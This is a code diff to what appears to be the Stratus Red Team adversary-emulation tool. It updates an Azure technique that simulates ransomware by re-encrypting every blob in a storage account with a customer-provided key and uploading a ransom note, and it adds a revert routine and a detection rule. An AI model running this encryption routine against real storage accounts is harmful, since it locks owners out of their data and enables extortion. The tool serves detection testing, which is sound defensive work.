@@ -84,16 +84,25 @@ Sample Azure Storage diagnostic log event for a PutBlob with customer-provided k
 }
 ` + CodeBlock + `
 `,
-		Platform:                   stratus.Azure,
-		IsIdempotent:               false,
-		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.Impact},
+		Impact:                stratus.ImpactDestructive,
+		Platform:              stratus.Azure,
+		IsIdempotent:          false,
+		MitreAttackTactics:    []mitreattack.Tactic{mitreattack.Impact},
+		MitreAttackTechniques: []string{"T1486"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"operationName": {"Microsoft.Storage/storageAccounts/listKeys/action"}},
+			},
+			Level:          stratus.DetectionLevelLow,
+			FalsePositives: []string{"Applications and administrators using shared key authorization"},
+		},
 		PrerequisitesTerraformCode: tf,
-		Detonate:                   detonate,
-		Revert:                     revert,
+		DetonateWithContext:        detonate,
+		RevertWithContext:          revert,
 	})
 }
 
-func detonate(params map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	storageAccount := params["storage_account_name"]
 	blobServiceURL := fmt.Sprintf("https://%s.blob.core.windows.net/", storageAccount)
 
@@ -101,17 +110,17 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 
 	log.Println("Simulating a CPEK ransomware attack on storage account " + storageAccount)
 
-	blobClient, err := utils.GetAzureBlobClient(blobServiceURL, azureConfig.SubscriptionID, azureConfig.GetCredentials(), azureConfig.ClientOptions, params)
+	blobClient, err := utils.GetAzureBlobClient(ctx, blobServiceURL, azureConfig.SubscriptionID, azureConfig.GetCredentials(), azureConfig.ClientOptions, params)
 	if err != nil {
 		return fmt.Errorf("failed to instantiate Blob Client: %w", err)
 	}
 
-	if err := encryptAllBlobsWithCPK(blobClient); err != nil {
+	if err := encryptAllBlobsWithCPK(ctx, blobClient); err != nil {
 		return fmt.Errorf("failed to encrypt blobs with customer-provided key: %w", err)
 	}
 
 	log.Println("Uploading ransom note...")
-	if err := utils.UploadBlob(blobClient, RansomContainerName, RansomNoteFilename, strings.NewReader(RansomNoteContents)); err != nil {
+	if err := utils.UploadBlob(ctx, blobClient, RansomContainerName, RansomNoteFilename, strings.NewReader(RansomNoteContents)); err != nil {
 		return fmt.Errorf("failed to upload ransom note: %w", err)
 	}
 
@@ -119,7 +128,7 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	return nil
 }
 
-func revert(params map[string]string, providers stratus.CloudProviders) error {
+func revert(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	storageAccount := params["storage_account_name"]
 	blobServiceURL := fmt.Sprintf("https://%s.blob.core.windows.net/", storageAccount)
 
@@ -127,12 +136,12 @@ func revert(params map[string]string, providers stratus.CloudProviders) error {
 
 	log.Println("Reverting CPEK encryption on storage account " + storageAccount)
 
-	blobClient, err := utils.GetAzureBlobClient(blobServiceURL, azureConfig.SubscriptionID, azureConfig.GetCredentials(), azureConfig.ClientOptions, params)
+	blobClient, err := utils.GetAzureBlobClient(ctx, blobServiceURL, azureConfig.SubscriptionID, azureConfig.GetCredentials(), azureConfig.ClientOptions, params)
 	if err != nil {
 		return fmt.Errorf("failed to instantiate Blob Client: %w", err)
 	}
 
-	if err := decryptAllBlobs(blobClient); err != nil {
+	if err := decryptAllBlobs(ctx, blobClient); err != nil {
 		return fmt.Errorf("failed to decrypt blobs: %w", err)
 	}
 
@@ -140,8 +149,8 @@ func revert(params map[string]string, providers stratus.CloudProviders) error {
 	return nil
 }
 
-func encryptAllBlobsWithCPK(client *azblob.Client) error {
-	blobMap, err := utils.ListAllBlobVersions(client)
+func encryptAllBlobsWithCPK(ctx context.Context, client *azblob.Client) error {
+	blobMap, err := utils.ListAllBlobVersions(ctx, client)
 	if err != nil {
 		return fmt.Errorf("unable to list blobs: %w", err)
 	}
@@ -162,7 +171,7 @@ func encryptAllBlobsWithCPK(client *azblob.Client) error {
 
 	for containerName, versionMap := range blobMap {
 		for blobName := range versionMap {
-			downloadResp, err := client.DownloadStream(context.Background(), containerName, blobName, nil)
+			downloadResp, err := client.DownloadStream(ctx, containerName, blobName, nil)
 			if err != nil {
 				return fmt.Errorf("unable to download blob %s from container %s: %w", blobName, containerName, err)
 			}
@@ -173,7 +182,7 @@ func encryptAllBlobsWithCPK(client *azblob.Client) error {
 				return fmt.Errorf("unable to read blob %s content: %w", blobName, err)
 			}
 
-			_, err = client.UploadStream(context.Background(), containerName, blobName, bytes.NewReader(blobContent), &azblob.UploadStreamOptions{
+			_, err = client.UploadStream(ctx, containerName, blobName, bytes.NewReader(blobContent), &azblob.UploadStreamOptions{
 				CPKInfo: cpkInfo,
 			})
 			if err != nil {
@@ -186,8 +195,8 @@ func encryptAllBlobsWithCPK(client *azblob.Client) error {
 	return nil
 }
 
-func decryptAllBlobs(client *azblob.Client) error {
-	blobMap, err := utils.ListAllBlobVersions(client)
+func decryptAllBlobs(ctx context.Context, client *azblob.Client) error {
+	blobMap, err := utils.ListAllBlobVersions(ctx, client)
 	if err != nil {
 		return fmt.Errorf("unable to list blobs: %w", err)
 	}
@@ -205,7 +214,7 @@ func decryptAllBlobs(client *azblob.Client) error {
 			continue
 		}
 		for blobName := range versionMap {
-			downloadResp, err := client.DownloadStream(context.Background(), containerName, blobName, &azblob.DownloadStreamOptions{
+			downloadResp, err := client.DownloadStream(ctx, containerName, blobName, &azblob.DownloadStreamOptions{
 				CPKInfo: cpkInfo,
 			})
 			if err != nil {
@@ -218,7 +227,7 @@ func decryptAllBlobs(client *azblob.Client) error {
 				return fmt.Errorf("unable to read blob %s content: %w", blobName, err)
 			}
 
-			_, err = client.UploadStream(context.Background(), containerName, blobName, bytes.NewReader(blobContent), nil)
+			_, err = client.UploadStream(ctx, containerName, blobName, bytes.NewReader(blobContent), nil)
 			if err != nil {
 				return fmt.Errorf("unable to upload decrypted blob %s: %w", blobName, err)
 			}